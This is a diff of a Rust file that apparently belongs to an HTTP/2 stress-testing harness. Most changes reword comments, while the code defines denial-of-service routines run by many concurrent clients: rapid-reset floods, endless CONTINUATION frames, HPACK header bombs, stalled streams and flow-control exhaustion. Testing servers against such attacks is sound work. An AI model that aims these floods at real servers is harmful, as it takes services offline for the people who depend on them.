@@ -1,4 +1,4 @@
-//! Many clients send HTTP/2 frames as fast as they can.
+//! Attacks by many clients that send HTTP/2 frames as fast as they can.
 
 use std::{future::Future, pin::Pin};
 
@@ -14,7 +14,7 @@ use crate::{
 
 type Boxed = Pin<Box<dyn Future<Output = ()>>>;
 
-/// So many send `first` and then `piece` for ever, and read what is answered, or not.
+/// Runs `count` clients that send `first` and then `piece` in a loop, and read the responses only if `reads` is set.
 fn storm(target: Target, count: usize, first: Vec<u8>, piece: Vec<u8>, reads: bool) -> Boxed {
     Box::pin(async move {
         crowd(count, async |_| {
@@ -30,7 +30,7 @@ fn open(stream: u32) -> Vec<u8> {
     frame(HEADERS, END_HEADERS, stream, &REQUEST)
 }
 
-/// Many streams on one connection, each with a body that comes but for its last byte.
+/// Many streams on one connection, each with a body without its last byte.
 fn streams_without_their_end(target: Target) -> Boxed {
     Box::pin(async move {
         crowd(4, async |_| {
@@ -50,7 +50,7 @@ fn streams_without_their_end(target: Target) -> Boxed {
                 });
                 futures::future::join_all(bodies).await;
             };
-            // It ends with the connection.
+            // Stop when the connection closes.
             tokio::select! {
                 _ = connection => {}
                 () = held => {}
@@ -60,18 +60,18 @@ fn streams_without_their_end(target: Target) -> Boxed {
     })
 }
 
-/// Streams that wait for their bodies, as many as there may be on each connection.
+/// Streams that wait for their bodies, as many as each connection allows.
 fn open_streams(target: Target) -> Boxed {
     storm(target, 200, [preface(&[]), on_streams(100, open)].concat(), Vec::new(), true)
 }
 
-/// Streams that are reset as soon as they are open.
+/// Streams that the client resets right after opening them.
 fn rapid_reset(target: Target) -> Boxed {
     let pieces = on_streams(100_000, |stream| [open(stream), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat());
     storm(target, 32, [preface(&[]), pieces].concat(), Vec::new(), true)
 }
 
-/// The same, of requests that are complete.
+/// The same with complete requests.
 fn rapid_reset_of_requests(target: Target) -> Boxed {
     let pieces = on_streams(100_000, |stream| {
         let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &REQUEST);
@@ -80,20 +80,20 @@ fn rapid_reset_of_requests(target: Target) -> Boxed {
     storm(target, 32, [preface(&[]), pieces].concat(), Vec::new(), true)
 }
 
-/// One head without an end.
+/// A single endless request head.
 fn continuations(target: Target) -> Boxed {
     let first = [preface(&[]), frame(HEADERS, 0, 1, &REQUEST)].concat();
     let piece = frame(CONTINUATION, 0, 1, &literal("x-header", &[b'a'; 16000]));
     storm(target, 32, first, piece, true)
 }
 
-/// The same, of continuations that hold nothing.
+/// The same with empty CONTINUATION frames.
 fn empty_continuations(target: Target) -> Boxed {
     let first = [preface(&[]), frame(HEADERS, 0, 1, &REQUEST)].concat();
     storm(target, 32, first, frame(CONTINUATION, 0, 1, &[]).repeat(1000), true)
 }
 
-/// One large header in the table, which a byte stands for: 16 KiB that would become 64 MiB.
+/// One large header in the HPACK table, referenced with one byte each time: 16 KiB that would expand to 64 MiB.
 fn header_bombs(target: Target) -> Boxed {
     let mut entry = vec![0x40];
     entry.extend(integer(1));
@@ -105,7 +105,7 @@ fn header_bombs(target: Target) -> Boxed {
     storm(target, 32, [preface(&[]), bombs].concat(), Vec::new(), true)
 }
 
-/// As much as a head may hold, on all streams.
+/// Heads of the maximum size on all streams.
 fn large_heads(target: Target) -> Boxed {
     let head = [REQUEST.to_vec(), literal("x-header", &[b'a'; 7000])].concat();
     let heads = on_streams(100, |stream| frame(HEADERS, END_HEADERS, stream, &head));
@@ -129,7 +129,7 @@ fn empty_data(target: Target) -> Boxed {
     storm(target, 32, first, frame(DATA, 0, 1, &[]).repeat(1000), true)
 }
 
-/// Bodies of a byte a frame.
+/// Bodies with one byte per frame.
 fn tiny_data(target: Target) -> Boxed {
     let first = [preface(&[]), open(1)].concat();
     storm(target, 32, first, frame(DATA, 0, 1, b" ").repeat(1000), true)
@@ -140,7 +140,7 @@ fn windows_and_priorities(target: Target) -> Boxed {
     storm(target, 32, preface(&[]), piece.repeat(1000), true)
 }
 
-/// Answers for which there is no window, and which nobody reads.
+/// Responses that the flow-control window blocks and that the client never reads.
 fn answers_without_a_window(target: Target) -> Boxed {
     let requests = on_streams(50_000, |stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &REQUEST));
     storm(target, 100, [preface(&[(4, 0)]), requests].concat(), Vec::new(), false)
